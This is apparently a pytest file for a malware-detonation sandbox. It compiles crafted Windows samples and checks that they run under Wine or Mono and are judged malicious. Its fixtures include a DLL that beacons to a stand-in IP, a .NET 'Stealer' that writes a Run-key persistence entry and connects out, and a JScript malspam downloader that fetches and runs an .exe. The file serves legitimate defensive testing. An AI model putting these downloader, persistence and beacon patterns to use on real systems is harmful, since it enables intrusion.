"""Windows payloads: PE facts read in the guest, launcher choice, proof of execution, the host's mapping
of "did not run" (contract C1), and real detonations of crafted samples in the process backend's sandbox.

Every sample is compiled by the test itself (mingw-w64 for PE and DLL, Mono's ``mcs`` for .NET) and is
harmless outside the sandbox too.  The sandbox tests carry ``sandbox`` (and ``slow`` for Wine/Mono) and skip,
saying why, where a compiler or runtime is missing.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from mailvm.guest import execproof as X
from mailvm.guest import launcher as L
from mailvm.guest import monoreg
from mailvm.guest import peinfo as P
from mailvm.guest import winearch
from mailvm.guest.detonate import detonate
from mailvm.guest.sandbox import sandbox_tools
from mailvm.verdict import CLEAN, MALICIOUS, SUSPICIOUS, Finding
from mailvm.vmpool import shmpage
from mailvm.vmpool.outcome import compose_verdict, failure_verdict

HERE = Path(__file__).parent
TEMPLATE = "/var/tmp/mailvm-test-wine-template"

PE_SOURCE = (HERE / "test_guest_detonate.py").read_text().split('PE_SOURCE = r"""', 1)[1].split('"""', 1)[0]

DLL_SOURCE = r"""
#include <winsock2.h>
#include <windows.h>
static void beacon(void) {
    WSADATA w; WSAStartup(MAKEWORD(2, 2), &w);
    SOCKET s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET; a.sin_port = htons(4444); a.sin_addr.s_addr = inet_addr("203.0.113.9");
    connect(s, (struct sockaddr *)&a, sizeof a); send(s, "dll", 3, 0); closesocket(s);
}
__declspec(dllexport) void CALLBACK Start(HWND h, HINSTANCE i, LPSTR s, int n) { beacon(); }
__declspec(dllexport) int table_of_data = 5;
BOOL WINAPI DllMain(HINSTANCE h, DWORD r, LPVOID p) { return TRUE; }
"""

DOTNET_SOURCE = r"""
using System;
using System.Net.Sockets;
using Microsoft.Win32;
namespace Stealer {
  class Program {
    static void Main() {
      try { var k = Registry.CurrentUser.CreateSubKey(@"Software\Microsoft\Windows\CurrentVersion\Run");
            k.SetValue("Updater", @"C:\Users\Public\upd.exe"); k.Close(); } catch (Exception) {}
      try { var c = new TcpClient(); c.Connect("203.0.113.77", 8443);
            c.GetStream().Write(new byte[] {1, 2, 3}, 0, 3); c.Close(); } catch (Exception) {}
    }
  }
}
"""

#: a JScript downloader as malspam carries it: fetch an .exe from a name, save it to %TEMP%, run it
JS_DOWNLOADER = r"""
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "http://dogovr-files.example/dogovr2208.exe", false);
x.send();
var s = new ActiveXObject("ADODB.Stream");
s.Type = 1; s.Open(); s.Write(x.responseBody);
var sh = new ActiveXObject("WScript.Shell");
var p = sh.ExpandEnvironmentStrings("%TEMP%") + "\\dogovr2208.exe";
s.SaveToFile(p, 2); s.Close();
sh.Run(p, 0, false);
"""


def build(tool: str, src: str, out: Path, *extra: str) -> bytes:
    suffix = ".cs" if tool == "mcs" else ".c"
    source = out.with_suffix(suffix)
    source.write_text(src)
    cmd = [tool, f"-out:{out}", str(source)] if tool == "mcs" else [tool, "-O1", "-o", str(out), str(source), *extra]
    subprocess.run(cmd, check=True, capture_output=True)
    return out.read_bytes()


# ------------------------------------------------------------------ PE facts (pure, but compiled samples)

def _need(tool: str) -> None:
    if shutil.which(tool) is None:
        pytest.skip(f"{tool} not installed (scripts/setup.sh installs it)")


def test_pe_facts_of_32_and_64_bit_programs_dlls_and_dotnet(tmp_path):
    for tool in ("i686-w64-mingw32-gcc", "x86_64-w64-mingw32-gcc", "mcs"):
        _need(tool)
    build("i686-w64-mingw32-gcc", PE_SOURCE, tmp_path / "a32.exe", "-lws2_32")
    build("x86_64-w64-mingw32-gcc", PE_SOURCE, tmp_path / "a64.exe", "-lws2_32")
    build("i686-w64-mingw32-gcc", DLL_SOURCE, tmp_path / "d32.dll", "-shared", "-lws2_32")
    build("mcs", DOTNET_SOURCE, tmp_path / "n.exe")
    a32, a64 = P.parse(str(tmp_path / "a32.exe")), P.parse(str(tmp_path / "a64.exe"))
    assert (a32.machine, a32.dll, a32.clr, a32.error) == ("i386", False, False, "")
    assert (a64.machine, a64.bits) == ("amd64", 64) and a64.entry_rva > 0
    d = P.parse(str(tmp_path / "d32.dll"))
    assert d.dll and {e.name.split("@")[0] for e in d.exports} == {"Start", "table_of_data"}
    assert {e.name.split("@")[0]: e.code for e in d.exports} == {"Start": True, "table_of_data": False}
    n = P.parse(str(tmp_path / "n.exe"))
    assert n.clr and n.clr_entry == "Main" and not n.dll
    # the launchers: each bitness its loader, DLL exports through rundll32 (data exports never called)
    for name, launcher in (("a32.exe", "wine_pe32"), ("a64.exe", "wine_pe"), ("d32.dll", "wine_dll32"),
                           ("n.exe", "dotnet_mono")):
        info = L.SampleInfo.from_file(str(tmp_path / name), name)
        launch, reason = L.choose(info, "/work/" + name, find=lambda t: "/usr/bin/" + t.rsplit("/", 1)[-1])
        assert launch is not None and launch.launcher == launcher, reason
    dll = L.choose(L.SampleInfo.from_file(str(tmp_path / "d32.dll"), "d32.dll"), "/work/d32.dll",
                   find=lambda t: "/usr/bin/" + t.rsplit("/", 1)[-1])[0]
    assert dll.argv[:2] == (L.SEQ_START, "5") and any(a.startswith("Z:\\work\\d32.dll,Start") for a in dll.argv)
    assert not any("table_of_data" in a for a in dll.argv) and dll.started_programs == ("rundll32.exe",)
    mono = L.choose(L.SampleInfo.from_file(str(tmp_path / "n.exe"), "n.exe"), "/work/n.exe",
                    find=lambda t: "/usr/bin/" + t)[0]
    assert mono.argv == ("/usr/bin/mono", "--trace=M::Main", "/work/n.exe") and mono.proof == "mono"


@pytest.mark.parametrize("blob,why", [
    (b"MZ" + b"\0" * 30, "short"),
    (b"MZ" + b"\0" * 58 + b"\xff\xff\xff\x7f" + b"\0" * 64, "e_lfanew past the end"),
    (b"MZ" + b"\0" * 58 + b"\x40\0\0\0" + b"PE\0\0" + b"\x4c\x01\x05\0" + b"\0" * 12 + b"\xe0\0\x02\x01"
     + b"\x0b\x01" + b"\0" * 300, "sections past the end"),
])
def test_pe_parser_never_raises_on_hostile_headers(tmp_path, blob, why):
    f = tmp_path / "x.exe"
    f.write_bytes(blob)
    info = P.parse(str(f))
    assert info is not None and info.error, why
    assert L.SampleInfo.from_file(str(f), "x.exe").pe_kind in ("pe_unknown", "exe32", "dos")


def test_launcher_says_why_a_windows_file_cannot_run():
    dos = L.SampleInfo("game.com", head=b"\xb4\x09\xba\x08\x01\xcd\x21")
    launch, reason = L.choose(dos, "/work/game.com")
    assert launch is None and reason.startswith("bad format: a DOS program")
    hta = L.SampleInfo("x.hta", head=b"<html><script>1</script></html>")
    launch, reason = L.choose(hta, "/work/x.hta", find=lambda t: "/usr/bin/" + t)
    assert launch is None and reason.startswith("missing runtime:") and "mshta" in reason
    pe32 = L.SampleInfo("a.exe", head=b"MZ", pe=P.PeInfo(machine="i386"))
    launch, reason = L.choose(pe32, "/work/a.exe", find=lambda t: "/usr/bin/wine64" if t == "wine64" else None)
    assert launch is None and reason.startswith("missing runtime: wine32")
    arm = L.SampleInfo("a.exe", head=b"MZ", pe=P.PeInfo(machine="arm64"))
    assert L.choose(arm, "/work/a.exe", find=lambda t: "/usr/bin/" + t)[1].startswith("unsupported architecture: a PE for machine")
    net_dll = L.SampleInfo("lib.dll", head=b"MZ", pe=P.PeInfo(machine="i386", dll=True, clr=True))
    assert L.choose(net_dll, "/work/lib.dll", find=lambda t: "/usr/bin/" + t)[1].startswith("no launcher for a .NET")


# ------------------------------------------------------------------ proof of execution (pure, real trace lines)

def _watch(proof: str, name: str, lines: list[str], **kw) -> X.Execution:
    w = X.ProofWatcher("l", proof, "/work/" + name, **kw)
    for line in lines:
        w.wine_line(line)
    return w.result()


def test_wine_proof_needs_the_samples_module_and_its_entry_thread():
    loaded = '0118:trace:loaddll:build_module Loaded L"Z:\\\\work\\\\a.exe" at 00400000: native'
    start = "0118:Starting thread proc 004014B0 (arg=3FFF1000)"
    ex = _watch("wine_module", "a.exe", [loaded, start], entry_rva=0x14B0)
    assert ex.executed and "entry point 0x4014b0" in ex.proof
    # another thread's start (wineboot, services) proves nothing about the sample
    assert not _watch("wine_module", "a.exe", [loaded, "0120:Starting thread proc 004014B0 (arg=0)"]).executed
    # loaded, then the loader failed on an import: crash at load with Wine's status
    err = ('0118:err:module:import_dll Library MSVCR100.dll (which is needed by L"Z:\\\\work\\\\a.exe") not found')
    ex = _watch("wine_module", "a.exe", [loaded, err])
    assert not ex.executed and ex.reason.startswith("crash at load: c0000135") and "MSVCR100.dll" in ex.reason
    # today's failure without wine32: the 64-bit loader cannot start a 32-bit program
    wow = "0024:err:module:load_wow64_ntdll failed to load L\"\\\\??\\\\C:\\\\windows\\\\syswow64\\\\ntdll.dll\" error c0000135"
    ex = _watch("wine_module", "a.exe", [wow])
    assert not ex.executed and ex.reason.startswith("crash at load: c0000135 (load_wow64_ntdll")
    assert _watch("wine_module", "a.exe", []).reason == "crash at load: Wine never loaded a.exe"


def test_dll_script_host_and_mono_proofs():
    dllmain = ('0120:Call PE DLL (proc=6A2C1390,module=6A2C0000 L"evil.dll",reason=PROCESS_ATTACH,res=00000000)')
    assert _watch("wine_dll", "evil.dll", [dllmain]).executed
    assert not _watch("wine_dll", "evil.dll", [dllmain.replace("evil.dll", "kernel32.dll")]).executed
    started = "0124:Starting thread proc 0000000140005610 (arg=0000000067FF0000)"
    engine = '0124:trace:loaddll:build_module Loaded L"C:\\\\windows\\\\system32\\\\jscript.dll" at 0000: builtin'
    w = X.ProofWatcher("wine_wsh", "wine_host", "/work/a.js")
    for line in (started, engine):
        w.wine_line(line)
    assert w.result().executed and "jscript.dll" in w.result().proof
    w.wine_line("0124:fixme:wscript:run_script ParseScriptText failed: 800a03ea")
    assert w.result().reason == "bad format: the script host could not parse the script (800a03ea)"
    m = X.ProofWatcher("dotnet_mono", "mono", "/work/n.exe", clr_entry="Main")
    m.stdout_line("[0x7f: 0.00000 0] ENTER: (wrapper runtime-invoke) <Module>:runtime_invoke_int_object (o)")
    assert not m.result().executed
    m.stdout_line("[0x7f: 0.00004 1] ENTER: Stealer.Program:Main ()()")
    assert m.result().executed and "Stealer.Program:Main" in m.result().proof
    bad = X.ProofWatcher("dotnet_mono", "mono", "/work/n.exe", clr_entry="Main")
    bad.stderr_line("Cannot open assembly '/work/n.exe': File does not contain a valid CIL image.")
    assert bad.result().reason.startswith("bad format:")
    native = X.ProofWatcher("elf", "process", "/work/a")
    native.event({"type": "exec", "path": "/work/a", "argv": ["/work/a"], "pid": 5})
    assert native.result().executed
    viewer = X.ProofWatcher("html_chromium", "viewer", "/work/a.html")
    viewer.event({"type": "exec", "path": "/usr/bin/chromium", "argv": ["chromium", "file:///work/a.html"]})
    assert viewer.result().executed


def test_mono_registry_diff_becomes_reg_set_events(tmp_path):
    before = monoreg.snapshot(str(tmp_path))
    d = tmp_path / ".mono/registry/CurrentUser/software/microsoft/windows/currentversion/run"
    d.mkdir(parents=True)
    (d / "values.xml").write_text('<values>\n<value name="Updater"\ntype="string">C:\\u.exe</value>\n</values>')
    (tmp_path / ".mono/registry/CurrentUser/bad").mkdir()
    (tmp_path / ".mono/registry/CurrentUser/bad/values.xml").write_text("<values><value name=")  # malformed
    evs = monoreg.diff(before, monoreg.snapshot(str(tmp_path)))
    assert evs == [{"type": "reg_set", "src": "mono_registry", "key":
                    "HKCU\\software\\microsoft\\windows\\currentversion\\run", "value": "Updater",
                    "data": "C:\\u.exe"}]


# ------------------------------------------------------------------ the host: a file that did not run (C1)

def _result(findings: list[dict], **kw) -> dict:
    return {"schema": 1, "verdict": "clean", "score": 0, "findings": findings, "log": [], "duration_s": 1.0,
            "stopped": "exited_idle", "launcher": "wine_pe32", "events": 3, **kw}


def test_a_file_that_did_not_run_is_never_detonation_nor_cleared():
    reason = "crash at load: c0000135 (load_wow64_ntdll ...)"
    guest = _result([{"id": "not_executed", "severity": 0, "detail": reason, "source": "detonation"}],
                    executed=False, execution={"launcher": "wine_pe32", "proof": "", "reason": reason})
    checked = shmpage.check_result(json.loads(json.dumps(guest)))  # what crosses the shared page
    assert checked["executed"] is False and checked["execution"]["reason"] == reason
    static = [Finding("pe_suspicious_imports", 4, "VirtualAllocEx", "triage")]
    v = compose_verdict(static, "executable", checked, "s1", 3.0, 1.0)
    assert v.source == "triage" and v.verdict == SUSPICIOUS  # static evidence kept, nothing cleared
    assert [f.id for f in v.findings] == ["pe_suspicious_imports", "not_executed"]
    assert v.log[1]["executed"] is False and v.log[1]["execution"]["reason"] == reason
    # the guest forgot the finding, or the page dropped it: the host adds it from the execution record
    bare = shmpage.check_result(_result([], executed=False, execution={"reason": "missing runtime: mono"}))
    v = compose_verdict([], "executable", bare, "s1", 1.0, 1.0)
    assert v.source == "triage" and v.verdict == CLEAN
    assert [(f.id, f.detail) for f in v.findings] == [("not_executed", "missing runtime: mono")]
    # a run that was proven stays a detonation
    ran = _result([{"id": "persistence_registry_run", "severity": 8, "detail": "Run", "source": "detonation"}],
                  executed=True, execution={"launcher": "wine_pe32", "proof": "entry thread", "reason": ""})
    v = compose_verdict([], "executable", shmpage.check_result(ran), "s1", 1.0, 1.0)
    assert v.source == "detonation" and v.verdict == MALICIOUS
    # no result at all (slot died): not a detonation either
    assert failure_verdict([], "executable", "slot_failed", "died").source == "triage"


# ------------------------------------------------------------------ real detonations (process backend's sandbox)

def _sandbox_reason() -> str | None:
    import os
    if os.geteuid() != 0:
        return "needs root"
    missing = sandbox_tools()[1]
    return "missing: " + ", ".join(missing) if missing else None


SANDBOX = _sandbox_reason()


def _wine_reason(bits: int) -> str | None:
    if SANDBOX:
        return SANDBOX
    if not L.find_tool("wine64"):
        return "wine64 not installed (scripts/setup.sh)"
    if bits == 32 and not winearch.has_wine32():
        return "wine32:i386 not installed (scripts/setup.sh adds the i386 architecture)"
    cc = "i686-w64-mingw32-gcc" if bits == 32 else "x86_64-w64-mingw32-gcc"
    return None if shutil.which(cc) else f"{cc} not installed (scripts/setup.sh)"


def _detonate(tmp_path: Path, data: bytes, name: str, monkeypatch, **options) -> dict:
    monkeypatch.setenv("MAILVM_WINE_TEMPLATE", TEMPLATE)
    src = tmp_path / "in" / name
    src.parent.mkdir(exist_ok=True)
    src.write_bytes(data)
    wd = tmp_path / ("wd-" + name)
    wd.mkdir()
    r = detonate(str(src), {"name": name, "timeout_s": 60, **options}, str(wd))
    json.dumps(r)
    print(f"\n{name}: {r['launcher']} {r['verdict']} {r['execution']} {[f['id'] for f in r['findings']]}"
          f" {r['duration_s']} s")
    return r


def _ids(r: dict) -> set[str]:
    return {f["id"] for f in r["findings"]}


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(_wine_reason(32) is not None, reason=f"32-bit Wine test unavailable: {_wine_reason(32)}")
def test_32_bit_pe_really_runs_and_is_malicious(tmp_path, monkeypatch):
    exe = build("i686-w64-mingw32-gcc", PE_SOURCE, tmp_path / "pe32.exe", "-lws2_32")
    r = _detonate(tmp_path, exe, "Invoice_2024.exe", monkeypatch)
    assert r["launcher"] == "wine_pe32" and r["executed"] is True, r["execution"]
    assert "Invoice_2024.exe" in r["execution"]["proof"]
    assert r["verdict"] == "malicious" and {"persistence_registry_run", "network_raw_ip"} <= _ids(r)
    # the sample's own evidence leads the log, ahead of Wine's start-up
    head = r["log"][:20]
    assert [e["type"] for e in head[:3]] == ["sandbox", "wine", "execution"]
    assert any(e.get("rules") for e in head) and any(e["type"] == "connect" for e in head)


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(_wine_reason(32) is not None, reason=f"32-bit Wine test unavailable: {_wine_reason(32)}")
def test_a_pe_that_crashes_at_load_is_not_executed(tmp_path, monkeypatch):
    (tmp_path / "ns.def").write_text("LIBRARY nosuchlib.dll\nEXPORTS\nNoSuchFunc\n")
    subprocess.run(["i686-w64-mingw32-dlltool", "-d", str(tmp_path / "ns.def"), "-l", str(tmp_path / "libns.a")],
                   check=True)
    exe = build("i686-w64-mingw32-gcc", "void NoSuchFunc(void);\nint main(void){NoSuchFunc();return 0;}\n",
                tmp_path / "m.exe", f"-L{tmp_path}", "-lns")
    r = _detonate(tmp_path, exe, "statement.exe", monkeypatch)
    assert r["executed"] is False and r["execution"]["reason"].startswith("crash at load: c0000135")
    assert "nosuchlib.dll" in r["execution"]["reason"] and "not_executed" in _ids(r)


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(_wine_reason(32) is not None, reason=f"32-bit Wine test unavailable: {_wine_reason(32)}")
def test_dll_runs_through_rundll32_with_its_exports(tmp_path, monkeypatch):
    dll = build("i686-w64-mingw32-gcc", DLL_SOURCE, tmp_path / "d.dll", "-shared", "-lws2_32")
    r = _detonate(tmp_path, dll, "update.dll", monkeypatch)
    assert r["launcher"] == "wine_dll32" and r["executed"] is True and "DllMain" in r["execution"]["proof"]
    text = json.dumps(r["log"])
    assert "203.0.113.9" in text and "network_raw_ip" in _ids(r)  # the Start export ran
    assert "shell_spawned" not in _ids(r)  # rundll32 is the launcher's, not the sample's


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(SANDBOX is not None or shutil.which("mcs") is None or not L.find_tool("mono"),
                    reason="needs the sandbox, mono-runtime and mono-mcs (scripts/setup.sh)")
def test_dotnet_assembly_runs_under_mono_and_is_malicious(tmp_path, monkeypatch):
    exe = build("mcs", DOTNET_SOURCE, tmp_path / "n.exe")
    r = _detonate(tmp_path, exe, "PaymentAdvice.exe", monkeypatch)
    assert r["launcher"] == "dotnet_mono" and r["executed"] is True
    assert r["execution"]["proof"].endswith("Stealer.Program:Main")
    assert r["verdict"] == "malicious" and {"persistence_registry_run", "network_raw_ip"} <= _ids(r)
    assert not _ids(r) & {"write_outside_workdir", "anti_vm_probe", "cpu_info_probe"}, r["findings"]


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(_wine_reason(64) is not None, reason=f"Wine test unavailable: {_wine_reason(64)}")
def test_jscript_downloader_runs_under_wscript(tmp_path, monkeypatch):
    r = _detonate(tmp_path, JS_DOWNLOADER.encode(), "dogovor.js", monkeypatch)
    assert r["launcher"] == "wine_wsh" and r["executed"] is True and "jscript.dll" in r["execution"]["proof"]
    assert "dogovr2208.exe" in json.dumps(r["log"]) and r["verdict"] in (SUSPICIOUS, MALICIOUS)
    broken = _detonate(tmp_path, b"var x = ((( ;", "broken.js", monkeypatch)
    assert broken["executed"] is False and broken["execution"]["reason"].startswith("bad format")
